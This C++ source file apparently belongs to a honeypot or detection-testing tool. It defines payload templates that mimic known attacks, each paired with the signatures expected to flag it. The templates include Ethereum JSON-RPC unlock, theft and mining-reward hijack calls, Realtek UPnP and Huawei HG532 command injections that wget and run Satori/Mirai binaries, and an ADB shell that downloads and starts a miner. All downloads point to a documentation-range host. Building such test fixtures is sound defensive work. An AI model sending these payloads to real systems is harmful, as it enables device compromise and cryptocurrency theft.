#include "scenario/payload_template.hpp"

#include <algorithm>
#include <cstdint>

namespace scanscope {
namespace {

/** An HTTP POST as geth's JSON-RPC scanners send it (curl- and Go-like headers). */
std::string jsonrpc_post(const std::string& body) {
  return "POST / HTTP/1.1\r\nHost: 8545\r\nUser-Agent: Go-http-client/1.1\r\n"
         "Content-Type: application/json\r\nContent-Length: " +
         std::to_string(body.size()) + "\r\n\r\n" + body;
}

std::string jsonrpc_call(const char* method, const char* params) {
  return jsonrpc_post(std::string("{\"jsonrpc\":\"2.0\",\"method\":\"") + method +
                      "\",\"params\":" + params + ",\"id\":1}");
}

void put_le32(std::string& s, uint32_t v) {
  for (int i = 0; i < 4; ++i) {
    s.push_back(static_cast<char>((v >> (8 * i)) & 0xFF));
  }
}

/** One ADB message: 24-byte header (command, arg0, arg1, length, checksum, magic) and data. */
std::string adb_message(const char command[4], uint32_t arg0, uint32_t arg1,
                        const std::string& data) {
  std::string m(command, 4);
  put_le32(m, arg0);
  put_le32(m, arg1);
  put_le32(m, static_cast<uint32_t>(data.size()));
  uint32_t sum = 0;
  for (unsigned char c : data) {
    sum += c;
  }
  put_le32(m, sum);
  uint32_t cmd = 0;
  for (int i = 3; i >= 0; --i) {
    cmd = (cmd << 8) | static_cast<unsigned char>(command[i]);
  }
  put_le32(m, cmd ^ 0xFFFFFFFFu);
  return m + data;
}

std::string soap_post(const char* path, const char* action_ns, const std::string& body) {
  const std::string envelope =
      "<?xml version=\"1.0\" ?><s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\" "
      "s:encodingStyle=\"http://schemas.xmlsoap.org/soap/encoding/\"><s:Body>" +
      body + "</s:Body></s:Envelope>";
  return std::string("POST ") + path +
         " HTTP/1.1\r\nContent-Length: " + std::to_string(envelope.size()) +
         "\r\nConnection: keep-alive\r\nAccept: */*\r\nSOAPAction: " + action_ns + "\r\n\r\n" +
         envelope;
}

// The ports config/signatures.rules gives each family of rules.
const std::vector<uint16_t> jsonrpc_ports{8545, 8546};
const std::vector<uint16_t> claymore_ports{3333};
const std::vector<uint16_t> adb_ports{5555};
const std::vector<uint16_t> upnp_ports{52869};
const std::vector<uint16_t> hg532_ports{37215};
const std::vector<uint16_t> any_port{};

// The ports each protocol is read on by default (--emulate, docs/responder.md).
const std::vector<uint16_t> ethereum_read{8545};
const std::vector<uint16_t> claymore_read{3333};
const std::vector<uint16_t> http_read{80, 8080, 37215, 52869};
const std::vector<uint16_t> adb_read{5555};

// The addresses the Ethereum templates name: the victim's account and the thief's.
const std::string victim = "0x3f1a0c58b9f5e6a4c2d1b0e9f8a7c6b5d4e3f201";
const std::string thief = "0x9e4b1d2c3a4f5e6d7c8b9a0f1e2d3c4b5a697887";

/** A JSON-RPC call's step for a reader of Ethereum's JSON-RPC, and for a reader of plain HTTP
 *  (a POST sent to a web server's port is a whole HTTP request all the same). */
std::vector<expected_step> jsonrpc_steps(const char* step) {
  return {{step, ethereum_read}, {"http_request", http_read}};
}

/** A JSON-RPC call's rule on the JSON-RPC ports, and on every port the rule that names
 *  jsonrpc_post's Go-http-client agent a generic client (tool=http_client). */
std::vector<expected_signature> jsonrpc_rules(const char* rule) {
  return {{rule, jsonrpc_ports}, {"http-client-user-agent", any_port}};
}

/** The JSON-RPC calls of the Ethereum report's stages. */
std::vector<payload_template> ethereum_templates() {
  return {
      {"eth_accounts", "JSON-RPC account discovery", jsonrpc_call("eth_accounts", "[]"),
       jsonrpc_rules("eth-accounts"), jsonrpc_steps("eth_recon")},
      {"eth_blockNumber", "JSON-RPC node probe", jsonrpc_call("eth_blockNumber", "[]"),
       jsonrpc_rules("eth-blocknumber"), jsonrpc_steps("eth_recon")},
      {"net_version", "JSON-RPC network probe", jsonrpc_call("net_version", "[]"),
       jsonrpc_rules("net-version"), jsonrpc_steps("eth_recon")},
      {"eth_getBalance", "JSON-RPC balance check",
       jsonrpc_call("eth_getBalance",
                    "[\"0x3f1a0c58b9f5e6a4c2d1b0e9f8a7c6b5d4e3f201\",\"latest\"]"),
       jsonrpc_rules("eth-getbalance"), jsonrpc_steps("eth_recon")},
      {"personal_unlockAccount",
       "JSON-RPC unlock by dictionary",
       jsonrpc_call("personal_unlockAccount",
                    "[\"0x3f1a0c58b9f5e6a4c2d1b0e9f8a7c6b5d4e3f201\",\"123456\",600]"),
       jsonrpc_rules("personal-unlockaccount"),
       jsonrpc_steps("eth_unlock"),
       {{"eth_passphrase", "", ethereum_read}}},  // the passphrase's text withheld
      {"eth_sendTransaction",
       "JSON-RPC theft from an unlocked account",
       jsonrpc_call("eth_sendTransaction",
                    "[{\"from\":\"0x3f1a0c58b9f5e6a4c2d1b0e9f8a7c6b5d4e3f201\","
                    "\"to\":\"0x9e4b1d2c3a4f5e6d7c8b9a0f1e2d3c4b5a697887\",\"gas\":\"0x5208\","
                    "\"value\":\"0x1bc16d674ec80000\"}]"),
       jsonrpc_rules("eth-sendtransaction"),
       jsonrpc_steps("eth_send"),
       {{"eth_recipient", thief, ethereum_read}, {"eth_sender", victim, ethereum_read}}},
      {"personal_newAccount", "JSON-RPC hijack: an account for the attacker",
       jsonrpc_call("personal_newAccount", "[\"ppp\"]"), jsonrpc_rules("personal-newaccount"),
       jsonrpc_steps("eth_miner")},
      {"miner_setEtherbase",
       "JSON-RPC hijack: mining reward to the attacker",
       jsonrpc_call("miner_setEtherbase", "[\"0x9e4b1d2c3a4f5e6d7c8b9a0f1e2d3c4b5a697887\"]"),
       jsonrpc_rules("miner-setetherbase"),
       jsonrpc_steps("eth_miner"),
       {{"eth_etherbase", thief, ethereum_read}}},
  };
}

std::vector<payload_template> make_templates() {
  // Download addresses are from the documentation range 198.51.100.0/24.
  const std::string adb_cnxn = adb_message("CNXN", 0x01000000, 4096, std::string("host::\0", 7));
  std::vector<payload_template> all = ethereum_templates();
  std::vector<payload_template> rest = {
      {"claymore_getstat1",
       "Claymore miner management status request",
       "{\"id\":0,\"jsonrpc\":\"2.0\",\"method\":\"miner_getstat1\"}\n",
       {{"claymore-getstat1", claymore_ports}},
       {{"miner_status", claymore_read}}},
      {"upnp_satori",
       "Realtek UPnP AddPortMapping injection downloading Satori",
       soap_post("/picsdesc.xml", "urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping",
                 "<u:AddPortMapping xmlns:u=\"urn:schemas-upnp-org:service:WANIPConnection:1\">"
                 "<NewRemoteHost></NewRemoteHost><NewExternalPort>47450</NewExternalPort>"
                 "<NewProtocol>TCP</NewProtocol><NewInternalPort>44382</NewInternalPort>"
                 "<NewInternalClient>`cd /var; wget http://198.51.100.7/bins/satori.mips -O s; "
                 "chmod 777 s; ./s realtek.selfrep`</NewInternalClient><NewEnabled>1</NewEnabled>"
                 "<NewPortMappingDescription>sync</NewPortMappingDescription>"
                 "<NewLeaseDuration>0</NewLeaseDuration></u:AddPortMapping>"),
       {{"realtek-upnp-addportmapping", upnp_ports},
        {"upnp-picsdesc-post", upnp_ports},
        {"wget-http", any_port},
        {"mirai-family-binary", any_port},
        {"bins-directory-binary", any_port},
        {"selfrep-marker", any_port}},
       {{"http_request", http_read}},
       {{"url", "http://198.51.100.7/bins/satori.mips", http_read}}},
      {"hg532_satori",
       "Huawei HG532 DeviceUpgrade injection downloading a Mirai variant",
       soap_post("/ctrlt/DeviceUpgrade_1",
                 "urn:schemas-upnp-org:service:WANPPPConnection:1#Upgrade",
                 "<u:Upgrade xmlns:u=\"urn:schemas-upnp-org:service:WANPPPConnection:1\">"
                 "<NewStatusURL>$(/bin/busybox wget -g 198.51.100.7 -l /tmp/.h -r "
                 "/bins/okiru.mips; /tmp/.h huawei.selfrep)</NewStatusURL>"
                 "<NewDownloadURL>$(echo HUAWEIUPNP)</NewDownloadURL></u:Upgrade>"),
       {{"huawei-hg532-deviceupgrade", hg532_ports},
        {"huawei-hg532-injection", hg532_ports},
        {"busybox-wget-tftp", any_port},
        {"mirai-family-binary", any_port},
        {"bins-directory-binary", any_port},
        {"selfrep-marker", any_port}},
       // busybox's "wget -g HOST -r FILE" is no URL a reader can take as one: no indicator.
       {{"http_request", http_read}}},
      {"adb_cnxn",
       "ADB connect (CNXN, protocol 0x01000000, host::)",
       adb_cnxn,
       {{"adb-cnxn-legacy", adb_ports}, {"adb-host-banner", adb_ports}},
       {{"adb_connect", adb_read}}},
      {"adb_miner",
       "ADB connect and a shell that downloads and starts a miner",
       adb_cnxn + adb_message("OPEN", 1, 0,
                              std::string("shell:cd /data/local/tmp; busybox wget "
                                          "http://198.51.100.7/ad.sh; chmod 755 ad.sh; "
                                          "./ad.sh") +
                                  '\0'),
       {{"adb-cnxn-legacy", adb_ports},
        {"adb-host-banner", adb_ports},
        {"adb-shell-download", adb_ports},
        {"adb-shell-data-local-tmp", adb_ports},
        {"adb-shell-chmod-run", adb_ports},
        {"wget-http", any_port},
        {"busybox-wget-tftp", any_port}},
       {{"adb_connect", adb_read}, {"adb_shell", adb_read}},
       {{"shell_command",
         "cd /data/local/tmp; busybox wget http://198.51.100.7/ad.sh; chmod 755 ad.sh; ./ad.sh",
         adb_read},
        {"url", "http://198.51.100.7/ad.sh", adb_read}}},
  };
  all.insert(all.end(), std::make_move_iterator(rest.begin()), std::make_move_iterator(rest.end()));
  return all;
}

}  // namespace

const std::vector<payload_template>& payload_templates() {
  static const std::vector<payload_template> templates = make_templates();
  return templates;
}

bool expected_signature::applies_to(uint16_t port) const {
  return ports.empty() || std::find(ports.begin(), ports.end(), port) != ports.end();
}

const payload_template* find_payload_template(std::string_view name) {
  for (const payload_template& t : payload_templates()) {
    if (name == t.name) {
      return &t;
    }
  }
  return nullptr;
}

}  // namespace scanscope
